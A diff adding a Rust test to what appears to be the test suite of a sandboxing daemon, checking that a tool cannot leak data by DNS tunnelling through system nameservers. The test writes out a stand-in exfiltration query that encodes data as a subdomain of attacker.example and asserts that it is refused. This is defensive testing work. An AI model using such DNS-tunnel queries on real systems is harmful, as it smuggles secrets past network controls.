@@ -1405,3 +1405,68 @@ read = ["{{path}}"]
     );
     eprintln!("{read_inside} of 60 calls read the file inside while it was being swapped");
 }
+
+// --- No resolver with data of the tool's choosing (issue 12, class 4) ---
+
+#[test]
+fn escape_a_dns_query_for_a_name_of_the_tools_choosing_never_leaves_the_host() {
+    if !support::privileged(
+        "escape_a_dns_query_for_a_name_of_the_tools_choosing_never_leaves_the_host",
+    ) {
+        return;
+    }
+    // On e4cd0a2 a call whose `connect` named a host could send UDP and TCP to every
+    // resolv.conf nameserver on port 53, so `<data>.attacker.example` reached the resolver (as
+    // reported; not re-run here: this test sends nothing off the host). Now every DNS query of
+    // the call, to any server, goes to guardd's responder, which answers the approved names
+    // only. A local server on 127.0.0.77:53 stands in for the nameserver and must hear nothing.
+    let nameserver = std::net::UdpSocket::bind("127.0.0.77:53").expect("bind 127.0.0.77:53");
+    nameserver.set_nonblocking(true).expect("nonblocking");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let s = Setup::new();
+    let guardd = Guardd::start(&s.policy(&format!("connect = [\"localhost:{port}\"]"), ""));
+
+    // Control: the approved name resolves, through the nameserver the tool asked (the reply
+    // looks as if it came from there), to the address guardd pinned; the connect works.
+    let out = call(
+        &guardd,
+        &[
+            "dns-query",
+            "127.0.0.77:53",
+            "localhost",
+            "--",
+            "connect",
+            &format!("127.0.0.1:{port}"),
+        ],
+    );
+    assert_ok(&out);
+    assert!(text(&out.stdout).contains("answer 127.0.0.1"), "{out:?}");
+    let row = last_receipt(&guardd);
+    assert_eq!(row["effects_observed"]["verdict"], "conformed", "{row:#}");
+    assert_eq!(
+        row["effects_observed"]["dns"][0],
+        serde_json::json!({ "name": "localhost", "type": "A", "approved": true }),
+        "{row:#}"
+    );
+
+    // The tunnel: refused by guardd's responder, heard by no nameserver, and a divergence.
+    let out = call(
+        &guardd,
+        &["dns-query", "127.0.0.77:53", "c2VjcmV0.attacker.example"],
+    );
+    assert!(text(&out.stdout).contains("rcode 5"), "{out:?}");
+    let row = last_receipt(&guardd);
+    let seen = &row["effects_observed"];
+    assert_eq!(seen["verdict"], "diverged", "{row:#}");
+    assert_eq!(
+        seen["dns"][0]["name"], "c2vjcmv0.attacker.example",
+        "{row:#}"
+    );
+    assert_eq!(seen["dns"][0]["approved"], false, "{row:#}");
+    let mut buf = [0u8; 512];
+    assert!(
+        nameserver.recv_from(&mut buf).is_err(),
+        "a query reached the nameserver"
+    );
+}
